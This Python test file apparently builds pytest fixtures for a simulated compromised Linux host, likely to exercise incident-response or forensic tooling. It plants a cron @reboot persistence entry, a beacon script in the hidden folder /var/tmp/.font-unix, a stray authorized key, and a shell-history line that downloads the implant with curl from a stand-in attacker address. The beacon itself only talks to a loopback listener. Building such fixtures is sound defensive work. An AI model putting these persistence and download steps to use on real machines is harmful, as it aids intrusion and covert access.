"""A folder that stands for a host, and a process that lives in it and holds a secret in memory alone."""

import socket
import subprocess
import sys
import textwrap
import threading

import pytest

BEACON = textwrap.dedent("""
    import hashlib, socket, sys, time
    secret = "bk-" + hashlib.sha256(sys.stdin.readline().encode()).hexdigest()
    line = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
    print("ready", flush=True)
    while True:
        line.sendall(b"SYNC ember-5eed\\n")
        time.sleep(0.05)
""")
"""Computes its secret, so that neither its file nor its command line holds it."""


@pytest.fixture
def host(tmp_path):
    """The folder."""
    root = tmp_path / "host"
    for name in ("etc/cron.d", "root", "tmp", "var/tmp/.font-unix", "usr", "home/ec2-user/.ssh"):
        (root / name).mkdir(parents=True)
    (root / "etc/hosts").write_text("127.0.0.1 localhost\n127.77.0.5 web\n")
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\n")
    (root / "etc/cron.d/sync").write_text("@reboot root /var/tmp/.font-unix/fontsync\n")
    (root / "root/.bash_history").write_text("curl http://203.0.113.9/fontsync\n")
    (root / "home/ec2-user/.ssh/authorized_keys").write_text("ssh-ed25519 AAAA someone\n")
    (root / "var/tmp/.font-unix/fontsync").write_text(BEACON)
    return root


@pytest.fixture
def beacon(host, listener):
    """A process of that host: runs a script from a place where anybody may write, and is connected."""
    place = host / "var/tmp/.font-unix"
    process = subprocess.Popen(
        [sys.executable, str(place / "fontsync"), str(listener)],
        cwd=place,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        env={"BEACON_HOME": "/var/tmp/.font-unix"},
    )
    process.stdin.write(b"seed\n")
    process.stdin.flush()
    assert process.stdout.readline() == b"ready\n"
    yield process
    process.kill()
    process.communicate()


@pytest.fixture
def listener():
    """The port of a listener on loopback that swallows what comes."""
    server = socket.create_server(("127.0.0.1", 0))

    def swallow():
        try:
            line, _ = server.accept()
            with line:
                while line.recv(4096):
                    pass
        except OSError:
            return

    thread = threading.Thread(target=swallow, daemon=True)
    thread.start()
    yield server.getsockname()[1]
    server.close()
    thread.join(5)
